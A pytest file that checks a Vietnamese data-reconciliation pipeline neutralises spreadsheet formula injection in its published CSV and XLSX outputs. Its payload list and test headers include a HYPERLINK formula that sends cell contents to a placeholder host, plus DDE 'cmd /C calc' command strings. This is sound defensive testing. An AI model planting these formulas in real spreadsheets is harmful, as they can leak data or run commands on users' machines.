"""Formula injection: payloads planted in every text column of the sample extracts never reach a spreadsheet live.

A real run (ingest → match → assess → report) over the committed sample's social-protection CSV and civil-status
workbook, each text cell of a few rows replaced by a payload; then every cell of every XLSX and CSV the run
publishes is read back with openpyxl / csv and checked for what a spreadsheet would evaluate.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from doisoat import pipeline
from doisoat.report import write_worklists
from doisoat.textfmt import safe_cell, safe_cell_expr, safe_frame

SAMPLE = Path(__file__).resolve().parent.parent / "sample_data" / "demo"
PAYLOADS = [
    '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0@SUM(1)",
    "\tTab đầu ô",
    "\rCR đầu ô",
    "＝1+1",
]
_WHITESPACE = "".join(chr(c) for c in range(0x110000) if chr(c).isspace()) + "\u200b\ufeff"


def live(value: object) -> bool:
    """Would a spreadsheet read this cell (typed, pasted or opened from CSV) as a formula?"""
    if not isinstance(value, str) or not value:
        return False
    if re.fullmatch(r"[+-]?\d[\d.,]*|-", value):  # a number (or a lone dash), never a formula
        return False
    return value[0] in "\t\r" or value.lstrip(_WHITESPACE)[:1] in set("=+-@＝＋－＠")


def plant(i: int, j: int) -> str | None:
    """The payload for data row ``i``, text column ``j``: about one cell in nine, every payload in turn."""
    return PAYLOADS[(i // 9 + j) % len(PAYLOADS)] if (i + 3 * j) % 9 == 0 else None


def planted_csv(path: Path) -> None:
    df = pl.read_csv(SAMPLE / "an_sinh_xa_hoi.csv", separator=";", infer_schema=False)
    cols = []
    for j, c in enumerate(df.columns):
        values = [plant(i, j) or v for i, v in enumerate(df[c].to_list())]
        cols.append(pl.Series(c, values, dtype=pl.Utf8))
    pl.DataFrame(cols).write_csv(path, separator=";", include_bom=True)


def planted_xlsx(path: Path) -> None:
    wb = openpyxl.load_workbook(SAMPLE / "ho_tich.xlsx")
    ws = wb.active
    header = next(r for r in range(1, 20) if ws.cell(r, 1).value == "STT")
    for i, row in enumerate(ws.iter_rows(min_row=header + 1)):
        for j, cell in enumerate(row):
            payload = plant(i, j)
            if payload and (cell.value is None or isinstance(cell.value, str)):
                cell.value = payload
                cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
    wb.save(path)


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("formulas")
    planted_csv(base / "an_sinh_xa_hoi.csv")
    planted_xlsx(base / "ho_tich.xlsx")
    # the payloads fill a tenth of every text column, dates included: the gate would rightly hold the
    # register back for unreadable dates, so this run treats that finding as a warning to publish it
    relaxed = base / "gate.yaml"
    relaxed.write_text("defaults:\n  severity:\n    readable_rate: warning\n", encoding="utf-8")
    config = pipeline.RunConfig(
        reference=SAMPLE / "reference.parquet",
        extracts=[
            pipeline.ExtractInput("social_protection", base / "an_sinh_xa_hoi.csv"),
            pipeline.ExtractInput("civil_status", base / "ho_tich.xlsx"),
        ],
        out_dir=base / "out" / "run",
        db_path=base / "doisoat.duckdb",
    ).with_gate_file(relaxed)
    summary = pipeline.reconcile(config)
    out = Path(summary.out_dir) if getattr(summary, "out_dir", None) else config.out_dir
    if not (out / "report").exists():  # the gate held the run back: its staging folder holds the same files
        out = next((base / "out").glob("run.staging-*"))
    return out


def cells_of(path: Path) -> list[tuple[str, object, str]]:
    """(sheet, value, openpyxl data type) of every cell of a workbook; ("csv", field, "s") of a CSV."""
    if path.suffix == ".csv":
        csv.field_size_limit(1 << 30)
        with path.open(encoding="utf-8-sig", newline="") as fh:
            return [("csv", v, "s") for row in csv.reader(fh) for v in row]
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def neutralised(cells: list[tuple[str, object, str]]) -> int:
    """How many cells hold a planted payload behind the apostrophe."""
    return sum(isinstance(v, str) and v.startswith("'") and v[1:] in PAYLOADS for _, v, _ in cells)


def test_no_published_spreadsheet_cell_is_a_formula(run):
    files = sorted([*run.rglob("*.xlsx"), *run.rglob("*.csv")])
    assert files
    for path in files:
        for sheet, value, kind in cells_of(path):
            assert kind != "f", (path.name, sheet, value)
            assert not live(value), (path.name, sheet, value)


def test_payloads_reach_every_output_kind_neutralised(run):
    """The test would be empty if payloads were dropped on the way: each kind of output shows some."""
    enriched_csv = cells_of(run / "enriched" / "social_protection.csv")
    enriched_xlsx = cells_of(run / "enriched" / "civil_status.xlsx")
    report = [c for c in cells_of(run / "report" / "bao-cao.xlsx") if c[0] == "Theo sổ"]
    worklists = [c for p in (run / "worklists").glob("*.xlsx") for c in cells_of(p)]
    assert neutralised(enriched_csv) >= 20
    assert neutralised(enriched_xlsx) >= 20
    assert neutralised(report) >= 1
    assert neutralised(worklists) >= 1


def test_stored_results_keep_the_values_as_read(run):
    results = pl.read_parquet(run / "results.parquet")
    raw = set(results["record_id"].drop_nulls().to_list())
    assert raw & set(PAYLOADS)  # the record key column carried payloads: stored unchanged, no apostrophe
    assert not any(v.startswith("'") and v[1:] in PAYLOADS for v in raw)


def test_negative_numbers_stay_numbers_and_plain_text_is_untouched():
    values = ["-12", "-1.234,5", "+84912345678", "-", "Nguyễn Văn An", "a=b", "", None, "'=x"]
    assert [safe_cell(v) for v in values] == values
    frame = pl.DataFrame({"n": [-5, 3], "t": ["-5", "=1"]})
    out = safe_frame(frame)
    assert out["n"].to_list() == [-5, 3] and out.schema["n"] == pl.Int64
    assert out["t"].to_list() == ["-5", "'=1"]


def test_cell_function_and_column_expression_agree_on_every_payload():
    values = [*PAYLOADS, " -x", "\n@x", "\u200b=1", "-5\n", "- 5", "+84 912 345 678", "Trần", None]
    out = pl.DataFrame({"v": values}, schema={"v": pl.Utf8}).select(safe_cell_expr(pl.col("v")))["v"]
    assert out.to_list() == [safe_cell(v) for v in values]
    assert not any(live(v) for v in out.to_list())
    assert safe_cell(safe_cell("=1")) == "'=1"  # idempotent


def test_headers_are_neutralised_without_clashing(tmp_path):
    frame = pl.DataFrame({"=cmd": ["a"], "'=cmd": ["b"], "Họ tên": ["@x"]})
    out = safe_frame(frame)
    assert out.columns == ["'=cmd (2)", "'=cmd", "Họ tên"]
    assert out.row(0) == ("a", "b", "'@x")


def test_combined_worklist_csv_is_formula_safe(tmp_path):
    """tong-hop.csv is written only past the combined cap (here 1 row): names carry the payloads."""
    n = len(PAYLOADS)
    records = pl.DataFrame(
        {"rid": range(n), "sector": ["asxh"] * n, "name_display": PAYLOADS, "name_key": PAYLOADS}
    )
    results = pl.DataFrame(
        {
            "rid": range(n),
            "sector": ["asxh"] * n,
            "record_id": PAYLOADS,
            "source_file": ["=asxh.csv"] * n,
            "source_row": range(1, n + 1),
            "status": ["unmatched"] * n,
            "reasons": [["NOT_IN_REFERENCE"]] * n,
            "commune_code_std": ["20194"] * n,
            "commune_code_old": [None] * n,
        },
        schema_overrides={"commune_code_old": pl.Utf8},
    )
    reference = pl.DataFrame(schema={"person_id": pl.Utf8})
    paths = write_worklists(tmp_path, results, records, reference, {"asxh": "@An sinh"}, combined_cap=1)
    cells = cells_of(paths["worklists_csv"])
    assert neutralised(cells) == 2 * n  # record key and name of every row
    assert not any(live(v) for _, v, _ in cells)
    for path in tmp_path.glob("*.xlsx"):
        assert not any(live(v) or kind == "f" for _, v, kind in cells_of(path))


def test_a_header_of_the_extract_is_neutralised_in_enriched_csv_and_xlsx(tmp_path):
    """The extract's own headers come back in the enriched files: a hostile header is text there too."""
    from doisoat.report import write_enriched

    records = pl.DataFrame(
        {
            "rid": [1],
            "sector": ["bhxh"],
            "source_file": ["x.csv"],
            "source_sheet": [None],
            "source_row": [1],
            "full_name": ["@SUM(1)"],
            "=cmd|' /C calc'!A0": ["-3"],
        },
        schema_overrides={"source_sheet": pl.Utf8},
    )
    results = pl.DataFrame(
        {
            "rid": [1],
            "person_id": [None],
            "status": ["unmatched"],
            "dung": [False],
            "du": [True],
            "sach": [True],
            "song": [True],
            "reasons": [["NOT_IN_REFERENCE"]],
        },
        schema_overrides={"person_id": pl.Utf8},
    )
    reference = pl.DataFrame(schema={"person_id": pl.Utf8})
    for suffix in ("csv", "xlsx"):
        files = records.with_columns(pl.lit(f"x.{suffix}").alias("source_file"))
        path = write_enriched(tmp_path / suffix, results, files, reference)["enriched:bhxh"]
        cells = [v for _, v, _ in cells_of(path)]
        assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells, suffix
        assert "-3" in cells  # a negative number stays a number
        assert not any(live(v) for v in cells), suffix
